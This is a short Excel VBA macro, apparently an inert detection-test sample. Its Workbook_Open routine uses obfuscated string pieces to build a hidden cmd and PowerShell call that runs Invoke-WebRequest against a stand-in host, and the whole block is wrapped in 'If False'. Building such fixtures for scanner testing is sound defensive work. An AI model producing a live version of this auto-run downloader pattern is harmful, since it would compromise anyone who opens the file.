Attribute VB_Name = "ThisWorkbook"
Attribute VB_Base = "1Normal.ThisDocument"
Attribute VB_GlobalNameSpace = False
Attribute VB_Creatable = False
Attribute VB_PredeclaredId = True
Attribute VB_Exposed = True
Private Sub Workbook_Open()
' INERT SEKISHO TEST
If False Then
b1 = "c" & "md" & " /" & "c st" & "ar" & "t /" & "B "
b2 = Replace("pAkBowAkBershAkBell", "AkB", "") & " -enc "
b3 = "$dfkj=" & Replace("""hAkBttp://exaAkBmple.invaAkBlid/inert/""", "AkB", "") & ";Invoke-WebRequest"
Set sh = CreateObject("WSc" & "ript.Sh" & "ell")
sh.Run b1 & b2 & b3, 0
End If
End Sub
